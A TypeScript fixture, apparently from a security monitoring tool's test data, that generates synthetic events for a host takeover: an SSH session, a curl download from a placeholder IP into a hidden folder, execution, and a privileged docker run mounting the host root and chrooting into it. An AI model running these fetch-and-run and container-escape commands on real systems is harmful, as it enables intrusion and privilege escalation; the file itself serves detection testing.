import { hashOf } from '#base'
import { sampleHosts, type SampleHost } from '../sample-hosts.ts'
import { child, firstProcess, root, sampleEvent, startOf } from '../sample-process.ts'
import type { Story } from '../story.ts'

const deploy = { id: '1001', name: 'deploy' }

/** Somebody came in as deploy, and a program in a hidden folder took the host by way of a privileged container. */
export const privilegedContainer: Story = {
  agoMs: 25 * 60_000,
  events: (atMs) => takeover(sampleHosts.edge, '/var/tmp/.cache/upd', atMs),
  toldBy: [
    'bbf90750-0cce-4576-a435-ecc39054b40d',
    '797c395d-94d8-40d2-a763-73b2eacd7a19',
    '2d73b013-87f9-4152-b236-6ddd1581cc06',
    '846d12d2-c0a4-4d4b-8dd3-c248ef604d24',
    'f276e5d4-2099-4e05-a2d9-243efc44a2b7',
  ],
}

/** The events of such a takeover: a session, a program at `path`, and the container that it starts. */
export function takeover(host: SampleHost, path: string, atMs: number) {
  const door = { type: 'sshd', ip: '203.0.113.9' } as const
  const sshd = firstProcess(host, root, { atMs, args: ['/usr/sbin/sshd', '-D'], entry: door })
  const shell = child(sshd, 2_000, ['/usr/bin/bash', '-l'], deploy)
  const fetched = child(shell, 41_000, ['/usr/bin/curl', '-fsSo', path, 'http://203.0.113.9/u'])
  const program = child(shell, 55_000, [path])
  const asked = child(program, 1_000, [
    '/usr/bin/docker',
    'run',
    '--privileged',
    '--pid=host',
    '-v',
    '/:/host',
    'alpine:3.20',
    'chroot',
    '/host',
    'sh',
  ])
  const id = hashOf('container', path, String(atMs))
  const container = {
    id,
    name: 'quiet_kepler',
    runtime: 'docker',
    image: { name: 'alpine', tag: ['3.20'] },
    security_context: { privileged: true },
  }
  const madeMs = asked.atMs + 800
  const made = sampleEvent(host, madeMs, {
    dataset: 'vedette.container',
    event: { action: 'container-created', category: ['configuration'], type: ['creation'] },
    members: {
      container,
      vedette: {
        container: {
          source: 'engine',
          seccomp: 'unconfined',
          masked_paths: false,
          host_pid: true,
          host_network: false,
          engine_socket_mounted: false,
          devices_all: true,
          host_mounts: ['/'],
        },
      },
    },
  })
  const shim = firstProcess(host, root, {
    atMs: madeMs,
    args: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby', '-id', id],
    entry: { type: 'init' },
  })
  const inside = startOf(child(shim, 600, ['/usr/sbin/chroot', '/host', 'sh']))
  return [
    ...[sshd, shell, fetched, program, asked].map(startOf),
    made,
    { ...inside, source: { ...inside.source, container } },
  ]
}
